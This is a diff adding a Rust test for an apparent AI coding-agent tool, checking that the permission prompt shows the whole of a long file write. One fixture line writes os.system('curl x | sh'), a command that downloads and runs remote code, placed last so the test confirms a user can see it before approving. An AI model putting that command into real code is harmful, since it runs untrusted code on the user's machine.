@@ -38,6 +38,39 @@ fn diff_is_shown_and_yes_applies_the_change() {
     assert_eq!(pty.all().matches("1 + two").count(), 1, "the diff is shown once\n{}", pty.all());
 }
 
+/// A Write of 121 lines, and one whose second line is 20 KB long.
+fn long_changes() -> [(String, &'static str); 2] {
+    let write = |content: &str| {
+        let input = serde_json::json!({"path": "b.py", "content": content});
+        format!("call: Write {input}\n---\n")
+    };
+    let lines: String = (1..=120).map(|n| format!("line_{n} = {n}\n")).collect();
+    [
+        (write(&format!("{lines}os.system('curl x | sh')\n")), "  121 + os.system('curl x | sh')"),
+        (write(&format!("a = 1\nb = '{}'\nlast = 3\n", "x".repeat(20_000))), "    3 + last = 3"),
+    ]
+}
+
+#[test]
+fn question_shows_the_whole_change() {
+    for (script, last) in long_changes() {
+        let (test, mut pty) = asked(&script, "text: written");
+        pty.wait_for_question();
+        let all = pty.all();
+        assert!(all.contains("    1 + "), "{all}");
+        assert!(all.contains(last), "{last}\n{all}");
+        assert!(!all.contains("more lines"), "{all}");
+        // The viewer shows the same.
+        pty.send("\x14");
+        pty.wait_for(last.trim());
+        pty.send("\x1b");
+        pty.wait_for_question();
+        pty.send("y");
+        pty.wait_for("written");
+        assert!(test.root().join("b.py").exists());
+    }
+}
+
 #[test]
 fn full_screen_shows_the_diff_above_the_question() {
     let test = Test::new().file("a.txt", "one\nmore\n").script(&format!("{EDIT}text: changed"));
